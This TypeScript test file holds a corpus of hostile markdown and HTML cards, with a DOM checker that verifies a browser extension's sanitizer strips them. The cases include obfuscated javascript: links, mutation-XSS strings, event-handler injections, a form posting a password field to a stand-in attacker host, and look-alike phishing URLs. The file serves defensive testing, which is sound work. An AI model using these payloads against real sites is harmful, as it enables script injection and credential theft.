/**
 * Hostile card text. Each output is parsed with a DOM and every element and attribute is
 * checked against what card HTML may contain; string matching alone would miss markup that
 * the parser rebuilds. The same corpus runs twice: under happy-dom (the unit-test DOM) and,
 * where a Chromium binary is available, in a real browser page, which is where the extension
 * renders cards.
 */

export interface HostileCase {
  name: string;
  markdown: string;
  /** Harmless text that must survive, so that "drop everything" cannot pass. */
  keeps?: string;
  inline?: boolean;
}

const TAB = '\t';
export const HOSTILE: HostileCase[] = [
  { name: 'script element', markdown: 'Before <script>alert(1)</script> after', keeps: 'after' },
  { name: 'img onerror', markdown: 'Look <img src=x onerror=alert(1)> here', keeps: 'here' },
  { name: 'svg onload', markdown: '<svg onload=alert(1)><circle r="5"/></svg>\n\nNext paragraph', keeps: 'Next paragraph' },
  { name: 'script inside svg', markdown: 'ok\n\n<svg><script>alert(1)</script></svg>', keeps: 'ok' },
  { name: 'inline link to javascript:', markdown: '[click me](javascript:alert(1))', keeps: 'click me' },
  { name: 'uppercase JAVASCRIPT: scheme', markdown: '[click me](JAVASCRIPT:alert(1))', keeps: 'click me' },
  { name: 'entity-encoded scheme jav&#x61;script:', markdown: '[click me](jav&#x61;script:alert(1))', keeps: 'click me' },
  {
    name: 'fully decimal-encoded scheme',
    markdown: '[click me](&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1))',
    keeps: 'click me',
  },
  { name: 'reference link to javascript:', markdown: '[click me][evil]\n\n[evil]: javascript:alert(1)', keeps: 'click me' },
  { name: 'shortcut reference link', markdown: '[evil]\n\n[evil]: javascript:alert(1) "title"', keeps: 'evil' },
  { name: 'autolink with javascript: scheme', markdown: 'Go <javascript:alert(1)> now', keeps: 'now' },
  { name: 'angle-bracket destination', markdown: '[click me](<javascript:alert(1)>)', keeps: 'click me' },
  {
    name: 'scheme with a tab inside',
    markdown: `[click me](java${TAB}script:alert(1))\n\n<a href="java${TAB}script:alert(1)">tab</a>`,
    keeps: 'tab',
  },
  { name: 'scheme with a newline inside', markdown: '<a href="java\nscript:alert(1)">newline</a>', keeps: 'newline' },
  { name: 'leading spaces before javascript:', markdown: '<a href="   javascript:alert(1)">spaces</a>', keeps: 'spaces' },
  { name: 'entity in raw HTML href', markdown: '<a href="&#x6A;avascript&colon;alert(1)">entity</a>', keeps: 'entity' },
  { name: 'vbscript: link', markdown: '<a href="vbscript:msgbox(1)">vb</a> and [vb2](VBScript:msgbox(1))', keeps: 'vb2' },
  { name: 'data: link', markdown: '[open](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)', keeps: 'open' },
  { name: 'data: image', markdown: '![chart](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)', keeps: 'chart' },
  { name: 'https image is not loaded', markdown: '![pixel](https://tracker.example/p.gif)', keeps: 'pixel' },
  { name: 'iframe', markdown: 'Video: <iframe src="https://evil.example/"></iframe> end', keeps: 'end' },
  { name: 'style element', markdown: '<style>body { display: none }</style>\n\nVisible', keeps: 'Visible' },
  { name: 'style attribute', markdown: '<p style="position:fixed;inset:0;background:red">cover</p>', keeps: 'cover' },
  {
    name: 'form with button formaction',
    markdown:
      '<form action="https://evil.example/steal"><input name="password"><button formaction="javascript:alert(1)">Go</button></form>',
  },
  { name: 'meta refresh', markdown: '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">Text', keeps: 'Text' },
  { name: 'base href', markdown: '<base href="https://evil.example/">\n\n[help](/help)', keeps: 'help' },
  { name: 'object and embed', markdown: '<object data="javascript:alert(1)"></object><embed src="javascript:alert(1)">x', keeps: 'x' },
  { name: 'mXSS: math/mglyph/style', markdown: '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>' },
  { name: 'mXSS: noscript title breakout', markdown: '<noscript><p title="</noscript><img src=x onerror=alert(1)>">' },
  { name: 'mXSS: svg/p/style nesting', markdown: '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">' },
  { name: 'svg xlink:href', markdown: '<svg><a xlink:href="javascript:alert(1)"><text x="0" y="20">svg link</text></a></svg>' },
  {
    name: 'srcset and source onerror',
    markdown: '<img srcset="javascript:alert(1) 1x"><video><source onerror="alert(1)"></video>x',
    keeps: 'x',
  },
  {
    name: 'author target and rel are replaced',
    markdown: '<a href="https://ok.example/" onclick="alert(1)" target="_self" rel="opener">fine</a>',
    keeps: 'fine',
  },
  { name: 'details ontoggle', markdown: '<details open ontoggle="alert(1)"><summary>more</summary>hidden</details>', keeps: 'more' },
  { name: 'div onmouseover', markdown: '<div onmouseover="alert(1)">hover me</div>', keeps: 'hover me' },
  { name: 'HTML comment hiding markup', markdown: 'A<!--<img src=x onerror=alert(1)>-->B', keeps: 'B' },
  { name: 'template element', markdown: '<template><img src=x onerror=alert(1)></template>T', keeps: 'T' },
  { name: 'file: and ftp: links', markdown: '<a href="file:///etc/passwd">f</a> [ftp](ftp://files.example/x)', keeps: 'ftp' },
  {
    name: 'protocol-relative and relative links',
    markdown: '[far](//evil.example/path) [near](../options.html) [anchor](#top)',
    keeps: 'near',
  },
  { name: 'input autofocus onfocus', markdown: '<input autofocus onfocus="alert(1)">typed', keeps: 'typed' },
  {
    name: 'xmp and textarea raw text',
    markdown: '<xmp><img src=x onerror=alert(1)></xmp><textarea><img src=x onerror=alert(1)></textarea>',
  },
  { name: 'link title breaking out of the attribute', markdown: '[t](https://ok.example/ "\\" onmouseover=\\"alert(1)")', keeps: 't' },
  { name: 'image title breaking out', markdown: '![alt](https://ok.example/a.png "\\" onerror=\\"alert(1)")', keeps: 'alt' },
  {
    name: 'id and name (DOM clobbering)',
    markdown: '<a id="defaultView" name="cookie" href="https://ok.example/">clobber</a>',
    keeps: 'clobber',
  },
  { name: 'link stylesheet', markdown: '<link rel="stylesheet" href="https://evil.example/x.css">styled', keeps: 'styled' },
  { name: 'data and aria attributes', markdown: '<p data-action="delete" aria-hidden="true" class="btn">attrs</p>', keeps: 'attrs' },
  { name: 'inline: block markup and heading', markdown: '# <div onclick="alert(1)">Title</div> <p>para</p>', keeps: 'Title', inline: true },
  {
    name: 'inline: javascript link',
    markdown: 'Open [settings](javascript:alert(1)) <img src=x onerror=alert(1)>',
    keeps: 'settings',
    inline: true,
  },
  // Links the pack format refuses in a card's links: plain http, and look-alikes with a user name.
  { name: 'inline link to plain http', markdown: 'Open [Canvas](http://canvas.instructure.com/login) to start', keeps: 'Canvas' },
  { name: 'bare http autolink', markdown: 'Sign in at http://canvas.evil.example/login today', keeps: 'http://canvas.evil.example/login' },
  { name: 'www. autolink (GFM reads it as http)', markdown: 'See www.canvas-help.example for more', keeps: 'www.canvas-help.example' },
  { name: 'angle-bracket http autolink', markdown: 'Go to <http://evil.example/> now', keeps: 'http://evil.example/' },
  { name: 'reference link to plain http', markdown: '[help][h]\n\n[h]: http://evil.example/', keeps: 'help' },
  { name: 'http image', markdown: 'Look ![the rubric](http://evil.example/rubric.png) here', keeps: 'the rubric' },
  {
    name: 'look-alike autolink with a user name',
    markdown: 'Log in at https://canvas.instructure.com@evil.example/login first',
    keeps: 'https://canvas.instructure.com@evil.example/login',
  },
  {
    name: 'look-alike inline link with a user name',
    markdown: '[Canvas login](https://canvas.instructure.com@evil.example/)',
    keeps: 'Canvas login',
  },
  { name: 'link with a user name and password', markdown: '[Drive](https://teacher:secret@drive.evil.example/)', keeps: 'Drive' },
  { name: 'scheme without slashes', markdown: '[Canvas](https:evil.example/login)', keeps: 'Canvas' },
  {
    name: 'inline: look-alike link',
    markdown: 'Open [Canvas](https://canvas.instructure.com@evil.example/)',
    keeps: 'Canvas',
    inline: true,
  },
];

/** A plain description of a fragment's nodes, so that the same check runs on any DOM. */
export interface NodeInfo {
  kind: 'element' | 'comment' | 'other';
  tag: string;
  namespace: string | null;
  attributes: [string, string][];
}

export function describeHtml(html: string, doc: Document = document): { nodes: NodeInfo[]; text: string } {
  const template = doc.createElement('template');
  template.innerHTML = html;
  const nodes: NodeInfo[] = [];
  const visit = (parent: Node) => {
    for (const node of Array.from(parent.childNodes)) {
      if (node.nodeType === 1) {
        const element = node as Element;
        nodes.push({
          kind: 'element',
          tag: element.localName.toLowerCase(),
          namespace: element.namespaceURI,
          attributes: Array.from(element.attributes).map((a) => [a.name.toLowerCase(), a.value]),
        });
        visit(element);
      } else if (node.nodeType === 8) nodes.push({ kind: 'comment', tag: '#comment', namespace: null, attributes: [] });
      else if (node.nodeType !== 3) nodes.push({ kind: 'other', tag: node.nodeName, namespace: null, attributes: [] });
    }
  };
  visit(template.content);
  return { nodes, text: template.content.textContent ?? '' };
}

const HTML_NS = 'http://www.w3.org/1999/xhtml';
export const CARD_ELEMENTS = new Set([
  'a',
  'strong',
  'em',
  'b',
  'i',
  'del',
  's',
  'code',
  'kbd',
  'br',
  'p',
  'hr',
  'ul',
  'ol',
  'li',
  'blockquote',
  'pre',
  'table',
  'thead',
  'tbody',
  'tr',
  'th',
  'td',
]);
export const INLINE_ELEMENTS = new Set(['a', 'strong', 'em', 'b', 'i', 'del', 's', 'code', 'kbd', 'br']);
const NEVER = new Set([
  'script',
  'style',
  'iframe',
  'frame',
  'object',
  'embed',
  'form',
  'button',
  'input',
  'meta',
  'base',
  'link',
  'img',
  'svg',
  'math',
  'template',
  'textarea',
  'xmp',
  'noscript',
  'video',
  'source',
]);
const URL_ATTRIBUTES = new Set([
  'href',
  'src',
  'srcset',
  'xlink:href',
  'action',
  'formaction',
  'data',
  'poster',
  'background',
  'cite',
  'ping',
]);
const ATTRIBUTES_ALLOWED: Record<string, string[]> = {
  a: ['href', 'title', 'target', 'rel'],
  th: ['align'],
  td: ['align'],
  ol: ['start'],
};

/** What a browser would treat as the scheme: it ignores ASCII whitespace and control characters. */
function normalisedUrl(value: string): string {
  return Array.from(value)
    .filter((char) => char.charCodeAt(0) > 0x20)
    .join('')
    .toLowerCase();
}

export function findDanger(nodes: NodeInfo[], allowed: ReadonlySet<string> = CARD_ELEMENTS): string[] {
  const problems: string[] = [];
  for (const node of nodes) {
    if (node.kind !== 'element') {
      problems.push(`${node.tag} node`);
      continue;
    }
    if (node.namespace !== HTML_NS) problems.push(`<${node.tag}> in namespace ${node.namespace}`);
    if (NEVER.has(node.tag)) problems.push(`<${node.tag}> element`);
    else if (!allowed.has(node.tag)) problems.push(`unexpected <${node.tag}>`);
    for (const [name, value] of node.attributes) {
      if (name.startsWith('on')) problems.push(`<${node.tag} ${name}> event handler`);
      if (name === 'style') problems.push(`<${node.tag} style>`);
      // https with nothing before the host (a user name is how look-alikes are made), or an e-mail address.
      if (URL_ATTRIBUTES.has(name) && !/^(?:https:\/\/[^/?#\\@]+(?:[/?#]|$)|mailto:)/.test(normalisedUrl(value))) {
        problems.push(`<${node.tag} ${name}="${value}"> is not an https link to a plain host`);
      }
      if (!(ATTRIBUTES_ALLOWED[node.tag] ?? []).includes(name)) problems.push(`<${node.tag} ${name}> not allowed`);
    }
    if (node.tag === 'a') {
      const attrs = new Map(node.attributes);
      if (!attrs.has('href')) problems.push('<a> without href');
      if (attrs.get('target') !== '_blank') problems.push(`<a target="${attrs.get('target')}">`);
      const rel = (attrs.get('rel') ?? '').split(/\s+/);
      if (!rel.includes('noopener') || !rel.includes('noreferrer')) problems.push(`<a rel="${attrs.get('rel')}">`);
    }
  }
  return problems;
}
